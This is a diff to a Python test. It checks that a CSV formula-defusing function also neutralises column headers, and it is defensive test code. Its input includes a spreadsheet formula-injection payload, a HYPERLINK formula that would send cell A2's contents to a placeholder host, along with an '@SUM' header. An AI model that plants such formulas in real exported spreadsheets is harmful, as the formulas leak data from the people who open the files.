@@ -547,6 +547,9 @@ def test_defuse_formulas_touches_text_only():
     assert out["name"].tolist() == ["'" + x for x in EVIL]
     assert out["value"].tolist() == [-1.5, -2, 3, 4, 5, 6]  # negative numbers stay numbers
     assert out["mixed"].tolist()[:2] == [-3.0, "'-3"] and out["mixed"].tolist()[4] == "'=1"
+    # and the header row: a boundary file's own column names went into the CSV as they came (from a hostile run)
+    named = defuse_formulas(pd.DataFrame({'=HYPERLINK("http://x?"&A2,"click")': [1], "@SUM(1+1)": [2], "ok": [3]}))
+    assert list(named.columns) == ["'=HYPERLINK(\"http://x?\"&A2,\"click\")", "'@SUM(1+1)", "ok"]
 
 
 def test_compare_csv_keeps_negative_numbers_in_text_columns_as_numbers(tmp_path):
